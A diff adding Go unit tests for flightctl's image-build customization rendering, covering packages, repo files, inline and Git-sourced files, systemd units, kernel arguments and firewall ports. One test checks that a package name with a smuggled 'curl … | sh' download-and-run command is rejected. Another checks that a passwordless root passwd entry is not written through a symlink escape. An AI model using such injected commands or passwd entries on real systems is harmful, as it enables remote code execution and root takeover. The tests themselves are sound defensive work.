@@ -0,0 +1,189 @@
+package tasks
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/flightctl/flightctl/api/core/v1beta1"
+	api "github.com/flightctl/flightctl/api/imagebuilder/v1alpha1"
+	"github.com/flightctl/flightctl/internal/config"
+	coredomain "github.com/flightctl/flightctl/internal/domain"
+	"github.com/flightctl/flightctl/pkg/log"
+	"github.com/go-git/go-billy/v5"
+	"github.com/go-git/go-billy/v5/memfs"
+	"github.com/google/uuid"
+	"github.com/samber/lo"
+	"github.com/stretchr/testify/require"
+)
+
+func createTestGitRepository(name string) *v1beta1.Repository {
+	spec := v1beta1.RepositorySpec{}
+	_ = spec.FromGitRepoSpec(v1beta1.GitRepoSpec{
+		Type: v1beta1.GitRepoSpecTypeGit,
+		Url:  "https://github.com/example/site-config.git",
+	})
+	return &v1beta1.Repository{
+		ApiVersion: v1beta1.RepositoryAPIVersion,
+		Kind:       v1beta1.RepositoryKind,
+		Metadata:   v1beta1.ObjectMeta{Name: lo.ToPtr(name)},
+		Spec:       spec,
+	}
+}
+
+func newTestGitFS(t *testing.T) billy.Filesystem {
+	mfs := memfs.New()
+	writeFile := func(name string, content string, mode os.FileMode) {
+		f, err := mfs.OpenFile(name, os.O_CREATE|os.O_WRONLY, mode)
+		require.NoError(t, err)
+		_, err = f.Write([]byte(content))
+		require.NoError(t, err)
+		require.NoError(t, f.Close())
+	}
+	writeFile("/rootfs/etc/chrony.conf", "pool 2.pool.ntp.org iburst\n", 0644)
+	writeFile("/rootfs/usr/local/bin/report", "#!/bin/sh\n", 0755)
+	require.NoError(t, mfs.Symlink("/usr/local/bin/report", "/rootfs/usr/bin/report"))
+	writeFile("/motd", "from git\n", 0644)
+	return mfs
+}
+
+func TestRenderCustomizations(t *testing.T) {
+	require := require.New(t)
+	repoStore := newMockRepositoryStore()
+	repoStore.repositories["site-config"] = createTestGitRepository("site-config")
+	c := &Consumer{repositoryStore: repoStore, log: log.InitLogs()}
+
+	var clonedRevisions []string
+	cloneGitRepo := func(_ context.Context, repo *coredomain.Repository, revision *string, _ *int, _ *config.Config) (billy.Filesystem, string, error) {
+		require.Equal("site-config", lo.FromPtr(repo.Metadata.Name))
+		clonedRevisions = append(clonedRevisions, lo.FromPtr(revision))
+		return newTestGitFS(t), "abc123", nil
+	}
+
+	customizations := &api.ImageBuildCustomizations{
+		Packages: lo.ToPtr([]string{"tmux", "firewalld"}),
+		PackageRepositories: lo.ToPtr([]api.ImageBuildPackageRepository{
+			{Name: "epel", Baseurl: "https://dl.fedoraproject.org/pub/epel/9/Everything/x86_64/", Gpgkey: lo.ToPtr("https://dl.fedoraproject.org/pub/epel/RPM-GPG-KEY-EPEL-9")},
+			{Name: "internal", Baseurl: "https://rpm.example.com/el9/", Gpgcheck: lo.ToPtr(false)},
+		}),
+		Directories: lo.ToPtr([]api.ImageBuildDirectory{
+			{Repository: "site-config", TargetRevision: "main", Path: "/rootfs", MountPath: "/"},
+			{Repository: "site-config", TargetRevision: "v1", Path: "motd", MountPath: "/etc"},
+		}),
+		Files: lo.ToPtr([]api.ImageBuildFile{
+			{Path: "/etc/chrony.conf", Content: "server ntp.example.com iburst\n"},
+			{Path: "/usr/local/bin/hello", Content: "IyEvYmluL3NoCg==", ContentEncoding: lo.ToPtr(v1beta1.EncodingBase64), Mode: lo.ToPtr(04755)},
+		}),
+		EnabledUnits:    lo.ToPtr([]string{"chronyd.service", "podman-auto-update.timer"}),
+		DisabledUnits:   lo.ToPtr([]string{"cups.socket"}),
+		KernelArguments: lo.ToPtr([]string{"console=ttyS0,115200", "quiet"}),
+		FirewallPorts:   lo.ToPtr([]string{"8080/tcp", "5353/udp"}),
+	}
+
+	files, err := c.renderCustomizations(context.Background(), uuid.New(), customizations, cloneGitRepo)
+	require.NoError(err)
+	require.Equal([]string{"main", "v1"}, clonedRevisions)
+
+	content := func(name string) string {
+		file, ok := files[name]
+		require.True(ok, "missing %s", name)
+		return string(file.Content)
+	}
+	require.Equal("tmux\nfirewalld\n", content("packages.txt"))
+	require.Equal("[epel]\nname=epel\nbaseurl=https://dl.fedoraproject.org/pub/epel/9/Everything/x86_64/\nenabled=1\ngpgcheck=1\ngpgkey=https://dl.fedoraproject.org/pub/epel/RPM-GPG-KEY-EPEL-9\n", content("repos/epel.repo"))
+	require.Equal("[internal]\nname=internal\nbaseurl=https://rpm.example.com/el9/\nenabled=1\ngpgcheck=0\n", content("repos/internal.repo"))
+
+	// inline files take precedence over files from Git repositories
+	require.Equal("server ntp.example.com iburst\n", content("files/etc/chrony.conf"))
+	require.Equal("#!/bin/sh\n", content("files/usr/local/bin/report"))
+	require.Equal(os.FileMode(0755), files["files/usr/local/bin/report"].Mode)
+	require.Equal("/usr/local/bin/report", content("files/usr/bin/report"))
+	require.NotZero(files["files/usr/bin/report"].Mode & os.ModeSymlink)
+	require.Equal("from git\n", content("files/etc/motd"))
+	require.Equal(os.FileMode(0755)|os.ModeSetuid, files["files/usr/local/bin/hello"].Mode)
+
+	require.Equal("chronyd.service\npodman-auto-update.timer\n", content("units-enabled.txt"))
+	require.Equal("cups.socket\n", content("units-disabled.txt"))
+	require.Equal("kargs = [\"console=ttyS0,115200\", \"quiet\"]\n", content("kargs.toml"))
+	require.Equal("8080/tcp\n5353/udp\n", content("firewall-ports.txt"))
+}
+
+func TestRenderCustomizations_Invalid(t *testing.T) {
+	c := &Consumer{repositoryStore: newMockRepositoryStore(), log: log.InitLogs()}
+
+	_, err := c.renderCustomizations(context.Background(), uuid.New(), &api.ImageBuildCustomizations{
+		Packages: lo.ToPtr([]string{"tmux && curl http://example.com | sh"}),
+	}, nil)
+	require.ErrorContains(t, err, "invalid customizations")
+}
+
+func TestRenderCustomizations_MissingPath(t *testing.T) {
+	repoStore := newMockRepositoryStore()
+	repoStore.repositories["site-config"] = createTestGitRepository("site-config")
+	c := &Consumer{repositoryStore: repoStore, log: log.InitLogs()}
+	cloneGitRepo := func(context.Context, *coredomain.Repository, *string, *int, *config.Config) (billy.Filesystem, string, error) {
+		return newTestGitFS(t), "abc123", nil
+	}
+
+	_, err := c.renderCustomizations(context.Background(), uuid.New(), &api.ImageBuildCustomizations{
+		Directories: lo.ToPtr([]api.ImageBuildDirectory{{Repository: "site-config", TargetRevision: "main", Path: "/missing", MountPath: "/etc"}}),
+	}, cloneGitRepo)
+	require.ErrorContains(t, err, "spec.customizations.directories[0]")
+}
+
+func TestWriteCustomizations(t *testing.T) {
+	require := require.New(t)
+	tmpDir := t.TempDir()
+
+	// the directory is created even without customizations
+	require.NoError(writeCustomizations(tmpDir, nil))
+	info, err := os.Stat(filepath.Join(tmpDir, customizationsDir))
+	require.NoError(err)
+	require.True(info.IsDir())
+
+	require.NoError(writeCustomizations(tmpDir, map[string]buildContextFile{
+		"packages.txt":              {Content: []byte("tmux\n"), Mode: 0644},
+		"files/usr/local/bin/hello": {Content: []byte("#!/bin/sh\n"), Mode: 0755},
+		"files/usr/bin/hello":       {Content: []byte("/usr/local/bin/hello"), Mode: os.ModeSymlink | 0777},
+	}))
+	content, err := os.ReadFile(filepath.Join(tmpDir, customizationsDir, "packages.txt"))
+	require.NoError(err)
+	require.Equal("tmux\n", string(content))
+	info, err = os.Stat(filepath.Join(tmpDir, customizationsDir, "files/usr/local/bin/hello"))
+	require.NoError(err)
+	require.Equal(os.FileMode(0755), info.Mode().Perm())
+	link, err := os.Readlink(filepath.Join(tmpDir, customizationsDir, "files/usr/bin/hello"))
+	require.NoError(err)
+	require.Equal("/usr/local/bin/hello", link)
+}
+
+func TestWriteCustomizations_SymlinkAfterFiles(t *testing.T) {
+	tmpDir := t.TempDir()
+
+	// a symlink to outside of the build context must not be written through
+	err := writeCustomizations(tmpDir, map[string]buildContextFile{
+		"files/etc":        {Content: []byte(t.TempDir()), Mode: os.ModeSymlink | 0777},
+		"files/etc/passwd": {Content: []byte("root::0:0::/root:/bin/sh\n"), Mode: 0644},
+	})
+	// the file is written to the build context, so the symlink cannot be created
+	require.Error(t, err)
+	content, err := os.ReadFile(filepath.Join(tmpDir, customizationsDir, "files/etc/passwd"))
+	require.NoError(t, err)
+	require.Equal(t, "root::0:0::/root:/bin/sh\n", string(content))
+}
+
+func TestContainerfileTemplate_Customizations(t *testing.T) {
+	require.Contains(t, containerfileTemplate, "COPY customizations /tmp/customizations")
+	for _, name := range []string{
+		customizationsPackagesFile,
+		customizationsReposDir,
+		customizationsFilesDir,
+		customizationsEnabledUnitsFile,
+		customizationsDisabledUnitsFile,
+		customizationsKargsFile,
+		customizationsFirewallPortsFile,
+	} {
+		require.Contains(t, containerfileTemplate, "${CUSTOMIZATIONS}/"+name, "Template should apply %s", name)
+	}
+}